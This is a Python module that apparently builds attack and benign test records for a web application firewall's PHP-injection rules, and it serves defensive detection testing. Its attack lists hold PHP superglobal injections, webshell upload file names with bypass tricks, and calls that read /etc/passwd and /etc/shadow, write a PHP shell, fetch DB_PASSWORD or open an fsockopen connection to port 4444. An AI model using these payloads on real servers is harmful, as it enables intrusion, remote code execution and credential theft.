# Title: "PHP Injection Attack: Variables Found". Target: the PHP interpreter (superglobals and legacy
# register_globals arrays in code reaching an eval/include sink, or template text rendered by PHP).
SUPERGLOBALS = [
    "$_GET['cmd']",
    '$_POST["x"]',
    "$_REQUEST[0]",
    "$_COOKIE['auth']",
    "$_SERVER['HTTP_USER_AGENT']",
    "$_FILES['f']['tmp_name']",
    "$_ENV['PATH']",
    "$_SESSION['is_admin']=1;",
    "$GLOBALS['db_password']",
    "$HTTP_RAW_POST_DATA",
    "$HTTP_GET_VARS['x']",
    "$HTTP_POST_VARS",
    "$HTTP_COOKIE_VARS",
    "$http_response_header",
    "$php_errormsg",
    "${'_GET'}['c']",
    '$_SERVER["DOCUMENT_ROOT"]',
    "print_r($GLOBALS);",
    "var_dump($_ENV);",
    "extract($_GET);",
    "parse_str($_SERVER['QUERY_STRING']);",
    "echo $_SERVER['SERVER_SOFTWARE'];",
    "{$_GET['a']}",
    "$HTTP_SERVER_VARS['REMOTE_ADDR']",
    "$HTTP_ENV_VARS",
    "$HTTP_SESSION_VARS",
]

# Title: "PHP Injection Attack: PHP Script File Upload Found". Target: the upload handler storing a file under a
# web root that PHP executes (extension lists of Apache/nginx+php-fpm, double extensions, NUL and dot tricks).
UP = ("multipart-filename", "rs-multipart-filename")
UPH = ("multipart-filename", "rs-header:X-Filename")
PHP_FILE_UPLOAD: list[str | tuple[str, str, str]] = [
    ("shell.php", *UP),
    ("shell.phtml", *UPH),
    ("shell.php5", *UP),
    ("shell.php7", *UPH),
    ("shell.phar", *UP),
    ("shell.pht", *UPH),
    ("shell.phps", *UP),
    ("shell.php3", *UPH),
    ("shell.php4", *UP),
    ("shell.pHp", *UPH),
    ("avatar.jpg.php", *UP),
    ("avatar.php.jpg", *UPH),
    ("shell.php%00.jpg", *UP),
    ("shell.php.", *UPH),
    ("shell.php::$DATA", *UP),
    ("shell.phtml;.jpg", *UPH),
    (".htaccess", *UP),
    (".user.ini", *UPH),
    ("shell.inc", *UP),
    ("shell.php ", *UP),
    ("../../public/shell.php", *UPH),
    ("SHELL.PHP", *UP),
    ("x.Phar", *UPH),
    ("filename*=UTF-8''shell.php", *UP),
    ("cmd.php", "header:X-File-Name", "rs-header:X-Filename"),
]

# Titles: "PHP Injection Attack: High-Risk PHP Function Name Found" and "Medium-Risk PHP Function Name Found"
# (paranoia level 2). Target: the PHP interpreter (function names and short calls typed into an eval sink or a
# web shell's command field).
PHP_HIGH_RISK_NAMES = [
    "phpinfo()",
    "passthru",
    "shell_exec",
    "proc_open",
    "pcntl_exec",
    "create_function",
    "fsockopen('203.0.113.9', 4444)",
    "pfsockopen",
    "posix_setuid(0)",
    "php_uname()",
    "show_source('index.php')",
    "highlight_file(__FILE__)",
    "readfile('/etc/passwd')",
    "file_get_contents('/etc/shadow')",
    "file_put_contents('x.php', $_POST[1])",
    "move_uploaded_file($_FILES['f']['tmp_name'], 'x.php')",
    "symlink('/', 'root')",
    "chmod('s.php', 0777)",
    "unlink('index.php')",
    "mb_ereg_replace('.*', 'system(\"id\")', 'x', 'e')",
    "gzuncompress(base64_decode($_POST['z']))",
    "get_defined_functions()",
    "posix_getpwuid(posix_geteuid())",
    "dl('evil.so')",
    "ini_restore('open_basedir')",
    "escapeshellcmd",
    "str_rot13(base64_decode($_GET['p']))",
    "getenv('DB_PASSWORD')",
]

FAMILIES: list[tuple[str, str, list[Any]]] = [
    ("xss", "libinjection-xss", LIBINJECTION_XSS),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT_HANDLER),
    ("xss", "attribute-vector", ATTRIBUTE_VECTOR),
    ("xss", "javascript-uri", JAVASCRIPT_URI),
    ("xss", "html-injection", HTML_INJECTION),
    ("xss", "svg-mathml", SVG_MATHML),
    ("xss", "css-expression", CSS_EXPRESSION),
    ("xss", "template-literal-dom-sink", TEMPLATE_DOM_SINK),
    ("xss", "ie-filter-style", IE_FILTER_STYLE),
    ("xss", "encoded-entity", ENCODED_ENTITY),
    ("xss", "angular-vue-template", ANGULAR_VUE),
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-function-call", PHP_FUNCTION_CALL),
    ("php", "php-variable-functions", PHP_VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", PHP_WRAPPERS),
    ("php", "php-object-injection", PHP_OBJECT_INJECTION),
    ("php", "php-config-directives", PHP_CONFIG_DIRECTIVES),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", PHP_FILE_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_HIGH_RISK_NAMES),
]
# directives written as `name=value` pairs go unquoted where a tuple names a parameter-name placement
RAW_KV_SUBS = {"php-config-directives"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "filter", "name", "comment", "url", "callback", "redirect", "bio", "message"]
    upload = "GIF89a"   # neutral content: the upload's name is what the title is about

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and sub in RAW_KV_SUBS and "=" in payload

    def _p_raw_query(self, p: Put) -> Record:
        return _get("/api/users?" + p.v)

    def _p_rs_raw_query(self, p: Put) -> Record:
        return request("GET", ("/index.php" if p.path == "/" else p.path) + "?" + p.v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    # front end, XSS vocabulary
    "heads up: CSP report-only caught an inline script on the billing page, moving it to a nonce today",
    "we escape display names before rendering the audit log, so Bob's <b> shows up literally, that's expected",
    "Vue 3 migration note: v-html is only used in the markdown preview and DOMPurify runs before it",
    "the old admin dashboard is still AngularJS 1.8, ticket WEB-2231 tracks the rewrite",
    "can someone review my PR? it swaps innerHTML for textContent in the notifications dropdown",
    "SVG logo uploads now go through the sanitizer, PNG and JPEG are unchanged",
    "pentest report is in: one reflected XSS on the legacy search page, fixed in 4.12.1",
    "reminder from the frontend guidelines: no dangerouslySetInnerHTML without sanitizing first",
    "the status page iframe needs frame-ancestors updated in our CSP, I'll do it after standup",
    "template literals in the email builder broke IE11 but we dropped IE11 support last year",
    "bug bash: tooltip shows &amp; instead of & for team names with an ampersand",
    "the markdown renderer keeps links but drops anything that isn't http, https or mailto",
    "Frontend lead. React, TypeScript, a bit of Svelte. Happy to talk CSP and accessibility.",
    "Security champion for the web team. OWASP chapter volunteer, bouldering on weekends.",
    "the onload handler on the dashboard is slow because it fetches every widget at once",
    "does the sanitizer strip the style attribute? our inline colors vanished in the newsletter",
    "Chrome removed the XSS Auditor years ago, so X-XSS-Protection doesn't buy us anything",
    "session cookie is HttpOnly since 2.4, so document.cookie can't read it from the page",
    "MathJax renders fine on the docs site after the upgrade, the equations look great",
    "javascript: links in the old wiki export became plain text, that's intentional",
    "the onboarding checklist says to run npm audit before every frontend release",
    "I added an alert() while debugging the modal and forgot to remove it, sorry, PR incoming",
    "Angular 17 signals are nice; the template syntax with @if and @for reads much better",
    "the script tag for the analytics snippet moved to the footer, LCP improved by 300ms",
    "we set the iframe sandbox attribute on the embedded reports, allow-scripts only",
    "the Trusted Types rollout is in report-only mode until the chart library gets updated",
    "the hover state on the sidebar uses onmouseenter, not onmouseover, so it doesn't flicker",
    "please use the <template> element for the row markup, cloning is faster than building strings",
    # PHP vocabulary
    "upgraded the marketing WordPress site to PHP 8.2, every plugin survived",
    "php-fpm slow log says the export endpoint takes 12s, adding an index on created_at",
    "composer update pulled in monolog 3, the logger config needs a small tweak",
    "our Laravel queue workers restart nightly because of memory creep in the PDF job",
    "disable_functions on the shared host blocks exec, so image resizing uses GD instead",
    "uploads only accept .png, .jpg and .pdf now; .phtml and .phar are rejected server-side",
    "please don't unserialize cookies, the remember-me token now uses json_encode",
    "the legacy CMS still has register_globals-era code, we're rewriting its auth module",
    "why does phpinfo() show a different php.ini than the CLI? php --ini says /etc/php/8.2/cli",
    "the Symfony 7 upgrade is blocked on a bundle that still calls create_function",
    "PHPUnit 11 needs PHP 8.2, the CI image is updated",
    "Xdebug stays enabled in dev only, it roughly halves request throughput",
    "OPcache preloading is on for the API, cold starts dropped a lot",
    "Backend dev (PHP, Laravel, Postgres). Maintainer of the internal billing SDK.",
    "do we still need allow_url_fopen for the currency feed? Guzzle could fetch it instead",
    "the CLI tool ships as a phar on the releases page, sha256 is in the notes",
    "$_SESSION was empty after the Redis move, session.save_handler was still files",
    "the cron runs php artisan schedule:run every minute on the worker box",
    "WooCommerce 8.9 update went fine on staging, QA signed off",
    "preg_replace with the /e modifier was removed in PHP 7, our old parser relied on it",
    "the php://stdin reader in the import script hangs if nobody pipes a file into it",
    "the assert() calls in the domain layer are disabled in production via zend.assertions",
    "system status: all green after the php-fpm restart, thanks for the patience",
    "exec summary for the Q3 roadmap is in the shared drive",
    "Laravel Octane benchmarks look promising but Swoole needs a new base image",
    "eval meeting moved to Thursday, we'll go through the model evaluation results",
    "the auto_prepend_file trick for APM is gone, New Relic now loads as an extension",
    "Drupal 10.2 security release is out, patching tonight in the maintenance window",
    "the base64_decode in the webhook handler is for the signature header, not the body",
    "Magento 2.4.7 upgrade needs PHP 8.3, ops is building the image",
    "I'm a PHP dev who moved to Go last year, still answer questions about the old billing app",
    "PHP and JavaScript developer, WordPress core contributor, coffee enthusiast",
    "file_get_contents times out on the partner API, switching to curl with a timeout",
    "the upload size limit is upload_max_filesize=20M and post_max_size=25M now",
    "Psalm flagged an unused $GLOBALS access in the legacy helper, I removed it",
    "the phpMyAdmin container is gone from prod, use the read replica via the bastion",
    "static analysis level 8 in PHPStan passes on the payments module now",
    "I wrote a small script to export the survey results, it runs with php export.php --since=2024-01-01",
    "the vendor's SDK calls shell_exec for git info, we patched it out in our fork",
]

SEARCHES = [
    "php developer", "xss", "frontend", "laravel", "script", "vue", "angular team", "svg icons",
    "system administrator", "execution lead", "iframe", "style guide", "O'Brien", "base64", "phpstorm",
    "wordpress", "template", "eval team", "alert settings", "onboarding", "Symfony", "composer", "php 8.3",
    "object storage", "javascript", "css", "expression", "upload", "session", "Léa Système",
    "security champion", "DOMPurify", "mathjax", "filter", "input", "include", "Drupal", "Magento",
    "cookie banner", "data team",
]

PROSE = [
    "Customer reports a script error on checkout page in Safari 17, asked for a screenshot",
    "User asked whether we support SVG avatars, told them PNG or JPEG only for now",
    "Refund request after the PHP 8.2 migration broke their plugin, escalated to tier 2",
    "Caller wants to know why their <b>bold</b> text shows the tags in comments",
    "Agency customer asked about our XSS and CSP posture for their security questionnaire",
    "Ticket: alert emails not arriving since Monday, checked spam settings with the user",
    "Customer's WordPress site shows a white screen after updating, suggested disabling plugins",
    "Question about the iframe embed code for their intranet, sent the docs link",
    "User wants to upload .phar files for a PHP course, explained the file type policy",
    "Enterprise customer asks if session data is stored server-side, yes in Redis",
    "Follow up on the JavaScript SDK bug, version 3.2.1 fixes the onload callback",
    "Account locked after too many login attempts, reset done, user on PHP team",
    "Request to change display name to include an ampersand, works fine now",
    "Customer asked how to style the widget, pointed them at the theme variables",
    "Partner integration uses PHP 7.4 still, warned them about end of life",
    "Billing question from the Vue.js meetup organizer about nonprofit pricing",
    "The Angular app loads but the template shows raw braces for a second, known issue",
    "User reports our export contains &quot; instead of quotes when opened in Excel",
    "Feedback: the system status page should list the EU region separately",
    "Request from security team: list of admins with upload permissions",
    "Customer confused by the Content-Security-Policy error in their console, sent the FAQ",
    "They run nginx with php-fpm and ask about the recommended timeout settings",
    "Laravel shop asks if our webhook signature works with their middleware, it does",
    "Students from the web security course asked for a demo account",
    "Support note: Drupal module compatibility list updated for 10.3",
    "Customer pasted a stack trace from Symfony, forwarded to backend",
    "Eval period extended by 14 days for the design agency",
    "User asked whether the mobile app uses a WebView with JavaScript enabled",
    "Asked about exporting data as serialized PHP arrays, suggested JSON instead",
    "Customer reports the style of the invoice PDF changed after the update",
    "Escalation: uploads of .svg logos fail for the marketing team",
    "Question about the maximum file name length for attachments",
    "Customer's developer asks which PHP extensions our SDK needs: curl, json, openssl",
    "Sales wants a one-pager on how we prevent cross-site scripting",
    "The user typed a script name in the wrong field, corrected the record",
    "Reminder: the PHP SDK 5.0 release notes go out Tuesday",
    "User wants dark mode for the admin panel, added to the feature board",
    "Caller asked for the system requirements for the on-prem installer",
    "Agency needs the embed snippet without document.write, sent the async version",
    "Customer asks if the phpinfo page in their old installer is safe to delete, yes",
]

URLS = [
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php#ini.allow-url-include",
    "https://www.php.net/manual/en/function.exec.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://angular.io/guide/security",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2024-4577",
    "https://github.com/cure53/DOMPurify",
    "https://laravel.com/docs/11.x/blade#displaying-data",
    "https://portswigger.net/web-security/cross-site-scripting",
    "https://wordpress.org/documentation/article/hardening-wordpress/",
    "https://symfony.com/doc/current/security.html",
    "https://www.php.net/releases/8.3/en.php",
    "https://web.dev/articles/trusted-types",
    "https://github.com/laravel/framework/releases/tag/v11.9.0",
    "https://www.drupal.org/security",
]

PROFILES = [
    ("Jean-Luc D'Alembert", "12 Rue de la Paix, 75002 Paris"),
    ("Siobhán O'Connor", "4 Harbour View, Cork T12 X8Y9"),
    ("Smith & Sons Ltd", "Unit 5, Riverside Business Park, Leeds LS10 1AB"),
    ("Dr. Amara Okafor", "221B Baker Street, London NW1 6XE"),
    ("Zoë Müller-Lüdenscheidt", "Hauptstraße 7, 10115 Berlin"),
    ("José Ángel Pérez", "Calle Mayor 3, 2º B, 28013 Madrid"),
    ("Ng Wei Ling", "10 Anson Road #21-02, Singapore 079903"),
    ("Priya Raman (she/her)", "No. 14, 2nd Cross, Indiranagar, Bengaluru 560038"),
    ("Mark \"Sparky\" Evans", "PO Box 1123, Austin, TX 78701"),
    ("Anne-Marie L'Heureux", "1500 Rue Sherbrooke O, Montréal QC H3G 1L3"),
    ("Kōji Tanaka", "2-11-3 Meguro, Meguro-ku, Tokyo 153-0063"),
    ("Olivia Scriven", "88 Queen Street, Auckland 1010"),
    ("Tomás Ekström", "3 Mill Lane, Cambridge CB2 1RX"),
    ("Studio Neon & Co.", "Via Roma 22, 20121 Milano"),
    ("Ravi Sistemas", "Rua Augusta 101, São Paulo SP 01305-000"),
]

UPLOAD_NAMES = [
    "photo.jpg", "invoice_2024-05.pdf", "php-cheatsheet.pdf", "phpinfo-screenshot.png", "logo.svg",
    "users.csv", "script_notes.txt", "composer.json", "php8.2-migration-plan.docx", "team photo (1).jpeg",
    "xss-training-slides.pptx", "angular-upgrade.md", "style.css.txt", "onboarding_checklist.xlsx",
    "Q3 report - final (v2).pdf", "avatar@2x.png", "résumé_Zoë.pdf", "export-users-2024-06-01.csv",
    "wordpress-backup-notes.txt", "vue-components.zip",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51"),
    ("User-Agent", "WordPress/6.5.3; https://blog.example.com"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "Symfony HttpClient (Curl)"),
    ("User-Agent", "PHP/8.2.18"),
    ("User-Agent", "Laravel/11.9 (+https://laravel.com)"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148"),
    ("Referer", "https://www.php.net/manual/en/function.system.php"),
    ("Referer", "https://stackoverflow.com/questions/1996122/how-to-prevent-xss-with-html-php"),
    ("Referer", "https://app.example.com/admin/users?page=3&sort=-created_at"),
    ("Referer", "https://www.google.com/search?q=php+unserialize+json+alternative"),
    ("Referer", "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script"),
    ("Referer", "https://vuejs.org/guide/essentials/template-syntax.html"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "3c9e1f0a-7b2d-4e8a-9f61-0d5b2a8c4e17"),
    ("Accept-Language", "fr-CA,fr;q=0.9,en-US;q=0.7"),
    ("Cookie", "session=abc123; theme=light; editor=vue"),
    ("Cookie", "session=abc123; PHPSESSID=9k2l3m4n5o6p7q8r9s0t; lang=de"),
    ("Cookie", "session=abc123; recent_search=php%20developer; tz=America%2FToronto"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
